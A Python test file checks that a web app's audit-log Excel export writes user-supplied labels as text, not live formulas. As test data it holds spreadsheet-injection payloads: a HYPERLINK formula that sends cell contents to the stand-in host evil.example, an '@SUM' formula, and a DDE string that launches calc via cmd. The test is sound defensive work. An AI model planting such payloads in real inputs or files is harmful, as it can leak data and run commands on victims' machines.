"""The audit export writes what people typed as text: a label "=HYPERLINK(...)" must not become a live link."""
from __future__ import annotations

import io
import zipfile

import openpyxl

from app.extensions import db
from app.models import AuditEvent
from app.services import audit, clock


def test_a_formula_in_an_audit_label_is_exported_as_text(app, demo):
    label = '=HYPERLINK("http://evil.example/?c="&A1,"Nguyễn Văn An")'
    with app.app_context():
        audit.add_event(db.session, {"at": clock.now(), "actor_name": "@SUM(1+1)", "action": "user_created",
                                     "target_type": "staff", "target_label": label, "detail": "+cmd|' /C calc'!A0"})
        db.session.commit()
        assert db.session.query(AuditEvent).filter_by(target_label=label).count() == 1
    client = app.test_client()
    demo.login(client, "admin")
    response = client.get("/audit/export")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as zf:
        xml = zf.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml
    ws = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = [[c for c in row] for row in ws.iter_rows(min_row=2)]
    (row,) = [r for r in rows if r[3].value == label]
    assert row[3].data_type == "s" and row[3].quotePrefix
    assert row[1].value == "@SUM(1+1)" and row[1].data_type == "s"
    assert row[6].value == "+cmd|' /C calc'!A0" and row[6].data_type == "s"
    assert row[0].is_date
